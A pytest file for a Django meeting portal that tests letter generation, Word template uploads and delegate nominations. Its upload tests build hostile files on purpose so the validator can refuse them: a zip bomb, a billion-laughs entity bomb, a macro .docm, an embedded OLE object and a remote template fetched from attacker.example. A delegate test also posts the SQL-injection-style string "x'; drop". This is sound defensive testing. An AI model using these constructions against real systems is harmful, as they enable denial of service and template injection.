import html
import io
import os
import zipfile
from collections.abc import Callable
from datetime import date, timedelta

import pytest
import time_machine
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from docx import Document
from docx.document import Document as DocxDocument
from openpyxl import Workbook

from meetings import services
from meetings.audit import Action
from meetings.letters import services as letter_services
from meetings.letters.checks import MAX_TEMPLATE_BYTES, check_template
from meetings.letters.documents import default_template
from meetings.models import (
    Invitation,
    LetterTemplate,
    MeetingStatus,
    Modality,
    OrganisationInvitation,
    OrganisationInvitationState,
)
from portal.models import AuditEvent, OutboundEmail
from stakeholders.models import MechanismRole, Role
from tests.meetings.factories import START, MeetingFactory, OrganisationInvitationFactory
from tests.stakeholders.factories import OrganisationFactory, PersonFactory, UserFactory

pytestmark = pytest.mark.django_db

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


@pytest.fixture
def secretariat():
    return UserFactory(role=Role.SECRETARIAT)


@pytest.fixture
def ministry():
    return OrganisationFactory(
        name="Ministry of Internal Affairs",
        name_ru="Министерство внутренних дел",
        name_uz="Ichki ishlar vazirligi",
        short_name="MIA",
        head_name="Pulat Bobojonov",
        head_title="Minister",
    )


@pytest.fixture
def focal_point(ministry):
    return UserFactory(
        role=Role.PARTNER,
        person__organisation=ministry,
        person__mechanism_role=MechanismRole.FOCAL_POINT,
    )


@pytest.fixture
def meeting():
    return MeetingFactory(
        title="Fourth coordination meeting",
        title_ru="Четвёртое координационное заседание",
        title_uz="Toʻrtinchi muvofiqlashtiruvchi yigʻilish",
    )


@pytest.fixture
def invited(meeting, ministry):
    return OrganisationInvitationFactory(meeting=meeting, organisation=ministry)


@pytest.fixture
def client_of(client):
    def log_in(user):
        client.force_login(user)
        return client

    return log_in


def letter_url(invited):
    return reverse("meetings:organisation_invitation_letter", args=[invited.pk])


def delegates_url(invited):
    return reverse("meetings:organisation_invitation_delegates", args=[invited.pk])


def letter_events():
    """The audit events of letters and their templates (logging in records one too)."""
    return AuditEvent.objects.filter(action__in=Action.values).exclude(
        action=Action.INVITATIONS_SENT
    )


def page_text(response) -> str:
    return html.unescape(response.content.decode())


def text_of(content: bytes) -> str:
    """Every paragraph of a letter: its body, its tables and its headers."""
    document = Document(io.BytesIO(content))
    parts = [paragraph.text for paragraph in document.paragraphs]
    for table in document.tables:
        for row in table.rows:
            parts.extend(cell.text for cell in row.cells)
    for section in document.sections:
        parts.extend(paragraph.text for paragraph in section.header.paragraphs)
    return "\n".join(parts)


def docx(build: Callable[[DocxDocument], object]) -> bytes:
    document = Document()
    build(document)
    output = io.BytesIO()
    document.save(output)
    return output.getvalue()


def rezip(content: bytes, *, replace: dict[str, bytes] | None = None) -> bytes:
    """The package `content` with some members replaced or added."""
    replace = dict(replace or {})
    output = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for member in source.infolist():
            data = replace.pop(member.filename, None)
            target.writestr(member.filename, data if data is not None else source.read(member))
        for name, data in replace.items():
            target.writestr(name, data)
    return output.getvalue()


def member(content: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read(name)


def upload(client, content: bytes, *, name: str = "letter.docx", language: str = "ru"):
    return client.post(
        reverse("meetings:letter_templates"),
        {"language": language, "file": SimpleUploadedFile(name, content)},
    )


# The letter


@pytest.mark.parametrize(
    ("language", "name", "day", "title"),
    [
        ("ru", "Министерство внутренних дел", "21 октября 2031", "Четвёртое координационное"),
        ("uz", "Ichki ishlar vazirligi", "21-Oktabr, 2031", "Toʻrtinchi muvofiqlashtiruvchi"),
        ("en", "Ministry of Internal Affairs", "21 October 2031", "Fourth coordination"),
    ],
)
def test_the_letter_opens_and_says_who_when_and_its_number_in_its_language(
    secretariat, client_of, invited, language, name, day, title
):
    response = client_of(secretariat).post(
        letter_url(invited), {"language": language, "number": "01-05/345", "date": "2031-10-01"}
    )

    assert response.status_code == 200
    assert response["Content-Type"] == DOCX
    assert response["Content-Disposition"].startswith("attachment")
    assert (
        f'filename="invitation-{invited.meeting.number}-mia-{language}.docx"'
        in (response["Content-Disposition"])
    )
    text = text_of(response.content)
    assert name in text and title in text
    assert day in text
    assert "01-05/345" in text
    assert "Pulat Bobojonov" in text and "Minister" in text
    assert "10:00\u201313:00 (Asia/Tashkent)" in text
    assert "{" not in text
    if language != "en":
        assert "October" not in text


def test_making_the_letter_records_it_and_moves_the_state_forward_only(
    secretariat, invited, meeting
):
    letter_services.letter_generate(
        user=secretariat,
        invited=invited,
        language="uz",
        number="  01-05/345 ",
        letter_date=date(2031, 10, 1),
    )

    invited.refresh_from_db()
    assert (invited.state, invited.letter_number, invited.letter_date, invited.letter_language) == (
        OrganisationInvitationState.LETTER_SENT,
        "01-05/345",
        date(2031, 10, 1),
        "uz",
    )
    event = AuditEvent.objects.get()
    assert (event.action, event.actor, event.target_id) == (
        Action.LETTER_GENERATED,
        secretariat,
        meeting.pk,
    )
    assert event.details == {
        "organisation": "Ministry of Internal Affairs",
        "number": "01-05/345",
        "language": "uz",
    }

    OrganisationInvitation.objects.filter(pk=invited.pk).update(
        state=OrganisationInvitationState.DELEGATES_NAMED
    )
    letter_services.letter_generate(
        user=secretariat, invited=invited, language="ru", number="02", letter_date=date.today()
    )

    invited.refresh_from_db()
    assert (invited.state, invited.letter_number) == (
        OrganisationInvitationState.DELEGATES_NAMED,
        "02",
    )


def test_the_form_proposes_the_focal_points_language_and_today(
    secretariat, client_of, invited, focal_point
):
    focal_point.person.preferred_language = "ru"
    focal_point.person.save()

    form = client_of(secretariat).get(letter_url(invited)).context["form"]

    assert form.initial["language"] == "ru"
    assert form.initial["date"] == date.today()


def test_without_a_focal_point_the_letter_is_proposed_in_english(secretariat, client_of, invited):
    PersonFactory(organisation=invited.organisation, preferred_language="uz")  # a member

    form = client_of(secretariat).get(letter_url(invited)).context["form"]

    assert form.initial["language"] == "en"


def test_an_online_meeting_is_said_to_be_online(secretariat, invited, meeting):
    meeting.modality = Modality.ONLINE
    meeting.venue = ""
    meeting.online_url = "https://meet.example.org/x"
    meeting.save()

    letter = letter_services.letter_generate(
        user=secretariat, invited=invited, language="en", number="1", letter_date=date.today()
    )

    assert "to be held on 21 October 2031, 10:00\u201313:00 (Asia/Tashkent), at online." in (
        text_of(letter)
    )


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({"language": "ru", "number": "", "date": "2031-10-01"}, "Give the letter's outgoing"),
        ({"language": "ru", "number": "   ", "date": "2031-10-01"}, "Give the letter's outgoing"),
        ({"language": "fr", "number": "1", "date": "2031-10-01"}, "Choose English, Russian or"),
        ({"language": "ru", "number": "1", "date": "1 Octobre"}, "Enter a valid date"),
        ({"language": "ru", "number": "1", "date": ""}, "Give the letter's date"),
        ({"language": "ru", "number": "1" * 51, "date": "2031-10-01"}, "at most 50 characters"),
    ],
)
def test_bad_letter_input_gets_a_message_and_saves_nothing(
    secretariat, client_of, invited, data, message
):
    response = client_of(secretariat).post(letter_url(invited), data)

    assert response.status_code == 200
    assert message in page_text(response)
    invited.refresh_from_db()
    assert (invited.state, invited.letter_number) == (OrganisationInvitationState.INVITED, "")
    assert not letter_events().exists()


def test_no_letter_invites_to_a_cancelled_meeting(secretariat, client_of, invited, meeting):
    services.meeting_set_status(user=secretariat, meeting=meeting, status=MeetingStatus.CANCELLED)

    response = client_of(secretariat).post(
        letter_url(invited), {"language": "en", "number": "1", "date": "2031-10-01"}
    )

    assert response.status_code == 200
    assert "The meeting is cancelled" in page_text(response)
    assert OrganisationInvitation.objects.get().letter_number == ""


def test_only_the_secretariat_makes_letters(focal_point, invited):
    with pytest.raises(PermissionDenied):
        letter_services.letter_generate(
            user=focal_point, invited=invited, language="en", number="1", letter_date=date.today()
        )


# Templates


def test_the_built_in_letters_pass_the_checks_every_upload_passes():
    for language in ("en", "ru", "uz"):
        check_template(default_template(language))


def test_an_uploaded_template_is_filled_in_tables_and_headers_keeping_its_formatting(
    secretariat, client_of, invited
):
    def build(document):
        document.sections[0].header.paragraphs[0].text = "Ref. {number}"
        paragraph = document.add_paragraph()
        paragraph.add_run("To the ")
        paragraph.add_run("{organi")  # Word splits a placeholder where formatting changes
        paragraph.add_run("sation").bold = True
        paragraph.add_run("} and {head_name}, ")
        paragraph.add_run("with respect").italic = True
        table = document.add_table(rows=1, cols=2)
        table.cell(0, 0).text = "Date"
        table.cell(0, 1).text = "{meeting_date}"

    client = client_of(secretariat)
    assert upload(client, docx(build), name="our-letter.docx", language="en").status_code == 302

    response = client.post(
        letter_url(invited), {"language": "en", "number": "7/1", "date": "2031-10-01"}
    )

    document = Document(io.BytesIO(response.content))
    runs = document.paragraphs[0].runs
    assert [run.text for run in runs] == [
        "To the ",
        "Ministry of Internal Affairs",
        "",
        " and Pulat Bobojonov, ",
        "with respect",
    ]
    assert runs[4].italic
    assert document.tables[0].cell(0, 1).text == "21 October 2031"
    assert document.sections[0].header.paragraphs[0].text == "Ref. 7/1"
    template = LetterTemplate.objects.get()
    assert (template.language, template.file_name, template.uploaded_by) == (
        "en",
        "our-letter.docx",
        secretariat,
    )


def test_a_template_is_replaced_downloaded_and_reset_per_language(secretariat, client_of):
    client = client_of(secretariat)
    first = docx(lambda d: d.add_paragraph("First {organisation}"))
    second = docx(lambda d: d.add_paragraph("Second {organisation}"))
    download = reverse("meetings:letter_template_download", args=["uz"])

    upload(client, first, language="uz")
    upload(client, second, language="uz")

    assert LetterTemplate.objects.count() == 1
    assert "Second {organisation}" in text_of(client.get(download).content)
    assert "{organisation}" in text_of(
        client.get(reverse("meetings:letter_template_download", args=["ru"])).content
    )

    response = client.post(reverse("meetings:letter_template_reset", args=["uz"]))

    assert response.status_code == 302
    assert not LetterTemplate.objects.exists()
    assert text_of(client.get(download).content) == text_of(default_template("uz"))
    assert list(letter_events().order_by("pk").values_list("action", flat=True)) == [
        Action.LETTER_TEMPLATE_REPLACED,
        Action.LETTER_TEMPLATE_REPLACED,
        Action.LETTER_TEMPLATE_RESET,
    ]


def _content_types(content: bytes, old: str, new: str) -> bytes:
    types = member(content, "[Content_Types].xml").decode()
    assert old in types
    return types.replace(old, new).encode()


DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def plain_zip() -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("readme.txt", "Not a letter")
    return output.getvalue()


def macro_document() -> bytes:
    content = default_template("en")
    types = _content_types(
        content,
        DOCX_MAIN,
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    ).replace(
        b"<Default ",
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default ',
        1,
    )
    return rezip(
        content,
        replace={"[Content_Types].xml": types, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"},
    )


def zip_bomb(megabytes: int) -> bytes:
    output = io.BytesIO()
    content = default_template("en")
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            target.writestr(item.filename, source.read(item))
        with target.open("word/media/image1.png", "w") as bomb:
            for _megabyte in range(megabytes):
                bomb.write(b"\0" * 1024 * 1024)
    return output.getvalue()


def oversized() -> bytes:
    return rezip(
        default_template("en"), replace={"word/media/image1.png": os.urandom(MAX_TEMPLATE_BYTES)}
    )


def broken_xml() -> bytes:
    content = default_template("en")
    document = member(content, "word/document.xml")
    return rezip(content, replace={"word/document.xml": document[: len(document) // 2]})


def entity_bomb() -> bytes:
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body><w:p><w:r><w:t>&lol2; {organisation}</w:t></w:r></w:p></w:body></w:document>"
    )
    return rezip(default_template("en"), replace={"word/document.xml": laughs})


def word_template() -> bytes:
    content = default_template("en")
    dotx = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
    return rezip(content, replace={"[Content_Types].xml": _content_types(content, DOCX_MAIN, dotx)})


def remote_template() -> bytes:
    content = default_template("en")
    rels = member(content, "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
        b'TargetMode="External"/></Relationships>',
    )
    return rezip(content, replace={"word/_rels/document.xml.rels": rels})


def embedded_object() -> bytes:
    return rezip(
        default_template("en"), replace={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}
    )


def workbook() -> bytes:
    output = io.BytesIO()
    Workbook().save(output)
    return output.getvalue()


HOSTILE = {
    "a ZIP renamed .docx": (plain_zip, "This is a ZIP archive, not a Word document (.docx)."),
    "a .docm with macros": (macro_document, "This is a Word document with macros (.docm)."),
    "a zip bomb": (lambda: zip_bomb(30), "The file unpacks to far more than a letter holds"),
    "a member packed tight": (lambda: zip_bomb(5), "The file unpacks to far more"),
    "broken XML": (broken_xml, "The file is damaged: its part word/document.xml"),
    "an entity bomb": (entity_bomb, "The file is damaged: its part word/document.xml"),
    "an oversized file": (oversized, "The file is larger than 2 MB."),
    "a Word template": (word_template, "This is a Word template (.dotx)."),
    "a remote template": (remote_template, "loads content from elsewhere when it opens"),
    "an embedded object": (embedded_object, "holds ActiveX controls or embedded objects"),
    "an Excel workbook": (workbook, "This is an Excel or PowerPoint file"),
    "a package without its document": (
        lambda: rezip(
            plain_zip(),
            replace={"[Content_Types].xml": member(default_template("en"), "[Content_Types].xml")},
        ),
        "The file cannot be read as a Word document.",
    ),
    "an old .doc": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old Word"),
    "a PDF": (lambda: b"%PDF-1.7\n", "This is a PDF file, not a Word document (.docx)."),
    "plain text": (lambda: b"Dear {head_name}", "This is not a Word document (.docx)."),
    "an empty file": (lambda: b"", "The submitted file is empty."),
    "an unknown placeholder": (
        lambda: docx(lambda d: d.add_paragraph("To {organization} on {meeting_date}")),
        "The template holds unknown placeholders: {organization}.",
    ),
    "no placeholder": (
        lambda: docx(lambda d: d.add_paragraph("Dear colleagues")),
        "The template holds none of the placeholders",
    ),
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_or_wrong_template_is_refused_with_a_message_and_nothing_stored(
    secretariat, client_of, kind
):
    make, message = HOSTILE[kind]
    client = client_of(secretariat)
    upload(client, docx(lambda d: d.add_paragraph("Kept {organisation}")))
    kept = LetterTemplate.objects.get()

    response = upload(client, make())

    assert response.status_code == 200
    assert message in page_text(response)
    assert list(LetterTemplate.objects.all()) == [kept]
    assert LetterTemplate.objects.get().uploaded_at == kept.uploaded_at
    assert letter_events().count() == 1  # the first upload's


def test_a_template_in_an_unknown_language_is_refused(secretariat, client_of):
    response = upload(client_of(secretariat), default_template("en"), language="fr")

    assert "Choose English, Russian or Uzbek." in page_text(response)
    assert not LetterTemplate.objects.exists()


def test_the_templates_page_lists_the_languages_and_placeholders(secretariat, client_of):
    page = page_text(client_of(secretariat).get(reverse("meetings:letter_templates")))

    assert "Built-in letter" in page
    assert "{head_title}" in page and "{meeting_time}" in page


# Delegates


def test_the_focal_point_names_delegates_who_are_invited_and_emailed_once(
    client_of, focal_point, invited, ministry
):
    first, second = PersonFactory(organisation=ministry), PersonFactory(organisation=ministry)
    client = client_of(focal_point)

    response = client.post(delegates_url(invited), {"people": [first.pk, second.pk]})

    assert response.status_code == 302
    invitations = Invitation.objects.filter(meeting=invited.meeting)
    assert {i.person for i in invitations} == {first, second}
    assert all(i.organisation == ministry and i.invited_by == focal_point for i in invitations)
    assert OrganisationInvitation.objects.get().state == OrganisationInvitationState.DELEGATES_NAMED
    emails = OutboundEmail.objects.filter(kind="meeting_invitation")
    assert sorted(emails.values_list("recipient", flat=True)) == sorted([first.email, second.email])

    again = services.delegates_name(user=focal_point, invited=invited, people=[first, second])

    assert (again.new, set(again.already)) == ([], {first, second})
    assert invitations.count() == 2
    assert emails.count() == 2


def test_the_delegates_page_offers_only_the_organisations_people_not_invited(
    client_of, focal_point, invited, ministry
):
    invited_already = PersonFactory(organisation=ministry)
    services.delegates_name(user=focal_point, invited=invited, people=[invited_already])
    colleague = PersonFactory(organisation=ministry, position="Inspector")
    PersonFactory(organisation=ministry, is_active=False)
    PersonFactory()  # of another organisation

    response = client_of(focal_point).get(delegates_url(invited))

    offered = response.context["form"].fields["people"].queryset
    assert set(offered) == {focal_point.person, colleague}
    assert f"{colleague.full_name}, Inspector" in page_text(response)
    assert [i.person for i in response.context["delegates"]] == [invited_already]


@pytest.mark.parametrize("who", ["stranger", "already invited", "inactive", "nobody", "garbage"])
def test_a_bad_nomination_gets_a_message_and_changes_nothing(
    client_of, focal_point, invited, ministry, who
):
    already = PersonFactory(organisation=ministry)
    services.delegates_name(user=focal_point, invited=invited, people=[already])
    OrganisationInvitation.objects.filter(pk=invited.pk).update(
        state=OrganisationInvitationState.LETTER_SENT
    )
    people = {
        "stranger": [PersonFactory().pk],
        "already invited": [already.pk],
        "inactive": [PersonFactory(organisation=ministry, is_active=False).pk],
        "nobody": [],
        "garbage": ["x'; drop"],
    }[who]
    emails = OutboundEmail.objects.count()

    response = client_of(focal_point).post(delegates_url(invited), {"people": people})

    assert response.status_code == 200
    message = "Choose at least one delegate." if who == "nobody" else "Choose delegates among"
    assert message in page_text(response)
    assert Invitation.objects.count() == 1
    assert OutboundEmail.objects.count() == emails
    assert OrganisationInvitation.objects.get().state == OrganisationInvitationState.LETTER_SENT


def test_the_service_refuses_a_delegate_of_another_organisation(secretariat, invited, ministry):
    stranger = PersonFactory(full_name="Kamola Yusupova")

    with pytest.raises(ValidationError) as refused:
        services.delegates_name(
            user=secretariat,
            invited=invited,
            people=[PersonFactory(organisation=ministry), stranger],
        )

    assert "Kamola Yusupova is not one" in str(refused.value.message_dict["people"])
    assert not Invitation.objects.exists()
    assert OrganisationInvitation.objects.get().state == OrganisationInvitationState.INVITED


@pytest.mark.parametrize("who", ["member", "other focal point", "donor"])
def test_only_the_organisations_focal_point_or_the_secretariat_names_delegates(
    client_of, invited, ministry, who
):
    other = OrganisationFactory()
    user = {
        "member": lambda: UserFactory(role=Role.PARTNER, person__organisation=ministry),
        "other focal point": lambda: UserFactory(
            role=Role.PARTNER,
            person__organisation=other,
            person__mechanism_role=MechanismRole.FOCAL_POINT,
        ),
        "donor": lambda: UserFactory(
            role=Role.DONOR,
            person__organisation=ministry,
            person__mechanism_role=MechanismRole.FOCAL_POINT,
        ),
    }[who]()
    # The other focal point's organisation is invited too: it sees the meeting.
    OrganisationInvitationFactory(meeting=invited.meeting, organisation=other)
    colleague = PersonFactory(organisation=ministry)
    client = client_of(user)

    assert client.get(invited.meeting.get_absolute_url()).status_code == 200
    assert client.get(delegates_url(invited)).status_code == 404
    assert client.post(delegates_url(invited), {"people": [colleague.pk]}).status_code == 404
    decline = reverse("meetings:organisation_invitation_decline", args=[invited.pk])
    assert client.post(decline).status_code == 404
    with pytest.raises(PermissionDenied):
        services.delegates_name(user=user, invited=invited, people=[colleague])
    with pytest.raises(PermissionDenied):
        services.organisation_decline(user=user, invited=invited)
    assert not Invitation.objects.exists()
    assert OrganisationInvitation.objects.get(pk=invited.pk).state == "invited"


def test_the_secretariat_names_delegates_of_any_invited_organisation(
    secretariat, client_of, invited, ministry
):
    colleague = PersonFactory(organisation=ministry)

    response = client_of(secretariat).post(delegates_url(invited), {"people": [colleague.pk]})

    assert response.status_code == 302
    assert Invitation.objects.get().person == colleague


def test_declining_and_then_naming_delegates_after_all(client_of, focal_point, invited, ministry):
    client = client_of(focal_point)

    response = client.post(reverse("meetings:organisation_invitation_decline", args=[invited.pk]))

    assert response.status_code == 302
    assert OrganisationInvitation.objects.get().state == OrganisationInvitationState.DECLINED

    services.delegates_name(
        user=focal_point, invited=invited, people=[PersonFactory(organisation=ministry)]
    )

    assert OrganisationInvitation.objects.get().state == OrganisationInvitationState.DELEGATES_NAMED


def test_once_the_meeting_starts_nominations_are_closed(client_of, focal_point, invited, ministry):
    colleague = PersonFactory(organisation=ministry)

    with time_machine.travel(START + timedelta(minutes=5)):
        client = client_of(focal_point)
        page = page_text(client.get(delegates_url(invited)))
        response = client.post(delegates_url(invited), {"people": [colleague.pk]})
        declined = client.post(
            reverse("meetings:organisation_invitation_decline", args=[invited.pk])
        )

    assert "delegates can no longer be named" in page
    assert response.status_code == 200
    assert "The meeting has started or is cancelled" in page_text(response)
    assert declined.status_code == 302
    assert not Invitation.objects.exists()
    assert OrganisationInvitation.objects.get().state == OrganisationInvitationState.INVITED


# Reaching the pages


def test_the_focal_point_reaches_the_delegates_page_from_the_meeting_page(
    client_of, focal_point, invited, ministry
):
    OrganisationInvitationFactory(meeting=invited.meeting)  # another organisation
    member = UserFactory(role=Role.PARTNER, person__organisation=ministry)

    page = client_of(focal_point).get(invited.meeting.get_absolute_url()).content.decode()
    plain = client_of(member).get(invited.meeting.get_absolute_url()).content.decode()

    assert page.count(delegates_url(invited)) == 2  # the card, and the organisation's row
    assert "/delegates/" not in page.replace(delegates_url(invited), "")
    assert "/letter/" not in page
    assert "/delegates/" not in plain


def test_the_secretariat_sees_letter_and_delegates_links_on_the_invitations_page(
    secretariat, client_of, invited
):
    other = OrganisationInvitationFactory(meeting=invited.meeting)

    page = (
        client_of(secretariat)
        .get(reverse("meetings:meeting_invite", args=[invited.meeting.pk]))
        .content.decode()
    )

    for each in (invited, other):
        assert letter_url(each) in page
        assert delegates_url(each) in page
    assert reverse("meetings:letter_templates") in page


@pytest.mark.parametrize("count", [3, 30])
def test_the_delegates_page_makes_the_same_queries_whatever_the_number_of_people(
    client_of, focal_point, invited, ministry, django_assert_num_queries, count
):
    people = PersonFactory.create_batch(count, organisation=ministry)
    services.delegates_name(user=focal_point, invited=invited, people=people[:2])
    client = client_of(focal_point)

    # session; user with person; the invited organisation with its meeting and organisation,
    # among the meetings the user sees; whether anyone is left to name; the invitations of
    # the organisation's people; the candidates, for the checkboxes
    with django_assert_num_queries(6):
        response = client.get(delegates_url(invited))

    assert response.status_code == 200
